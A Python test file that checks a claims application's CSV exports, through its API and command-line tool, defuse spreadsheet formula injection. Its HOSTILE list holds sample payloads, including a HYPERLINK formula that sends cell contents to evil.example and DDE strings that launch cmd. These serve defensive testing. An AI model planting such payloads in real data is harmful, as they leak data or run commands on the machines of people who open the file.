"""CSV exports are safe to open in a spreadsheet (OWASP "CSV injection"), over real HTTP
and through the real `loket outcomes export` process.

An officer's free-text note (or any imported claim field) that starts with `=`, `+`, `-`,
`@`, a tab or a carriage return would be a live formula in Excel or LibreOffice. Each such
cell is exported as text: prefixed with a single quote, every field quoted.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import subprocess
import sys
import uuid

import httpx
import pytest

from server.adapters.sql import migrate
from server.domain.claims import ClaimState
from signaling.session import SessionState
from tests.support.accounts import user_token
from tests.support.claims import seed_claim
from tests.support.live_server import LiveServer, running_server, server_settings
from tests.support.sessions import StagedSessions

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SAFE = 'KTP jelas; "kutip", koma, dan\nbaris baru'


@pytest.fixture
async def server(tmp_path):
    settings = server_settings(tmp_path)
    await migrate.upgrade(settings)
    async with running_server(settings) as live:
        yield live


async def _decide(server: LiveServer, http: httpx.AsyncClient, token: str, note: str) -> str:
    staged = server.app.state.records.session_of_claim
    claim = await seed_claim(
        server, f"BK-{uuid.uuid4().hex[:8].upper()}", state=ClaimState.CHECKED_IN
    )
    staged.put(claim.claim_id, booth="booth-x", cso="siti", state=SessionState.FOCUSED)
    res = await http.post(
        f"/api/claims/{claim.claim_id}/outcome",
        json={"decision": "needs_follow_up", "reason_codes": ["follow_up_missing_document"],
              "note": note},
        headers={"Authorization": f"Bearer {token}", "Idempotency-Key": uuid.uuid4().hex},
    )  # fmt: skip
    assert res.status_code == 201, res.text
    return claim.claim_id


def _expected(note: str) -> str:
    return "'" + note if note[:1] in ("=", "+", "-", "@", "\t", "\r") else note


def _check_export(text: str, notes: dict[str, str]) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {r["claim_id"]: r["note"] for r in rows} == {
        claim_id: _expected(note) for claim_id, note in notes.items()
    }
    # Every field is quoted, so no reader has to guess where a cell starts.
    for line in csv.reader(io.StringIO(text, newline="")):
        assert line  # not an empty record
    body = text.split("\n", 1)[1]
    assert body.startswith('"'), body[:80]


async def test_hostile_notes_export_as_text_through_the_api_and_the_cli(
    server: LiveServer, tmp_path
) -> None:
    server.app.state.records.session_of_claim = StagedSessions()
    supervisor = await user_token(server, "budi", role="supervisor")
    async with httpx.AsyncClient(base_url=server.base_url, timeout=30) as http:
        siti = await user_token(server, "siti")
        notes = {await _decide(server, http, siti, note): note for note in [*HOSTILE, SAFE]}
        api = await http.get(
            "/api/outcomes",
            params={"format": "csv"},
            headers={"Authorization": f"Bearer {supervisor}"},
        )
    assert api.status_code == 200, api.text
    _check_export(api.text, notes)

    # The operator's export, as its own process (CSV to a file; the same writer serves
    # stdout).
    out = tmp_path / "outcomes.csv"
    data_dir = str(server.settings.data_dir)
    argv = [sys.executable, "-m", "server.cli", "outcomes", "export", "--data-dir", data_dir]
    to_file = await asyncio.to_thread(
        subprocess.run, [*argv, "-o", str(out)], capture_output=True, text=True, timeout=60
    )
    assert to_file.returncode == 0, to_file.stderr
    _check_export(out.read_bytes().decode("utf-8"), notes)  # no newline translation
    # JSON (to stdout) is not a spreadsheet format: the note is exactly what was written.
    as_json = await asyncio.to_thread(
        subprocess.run, [*argv, "--format", "json"], capture_output=True, text=True, timeout=60
    )
    assert as_json.returncode == 0, as_json.stderr
    assert {r["claim_id"]: r["note"] for r in json.loads(as_json.stdout)} == notes
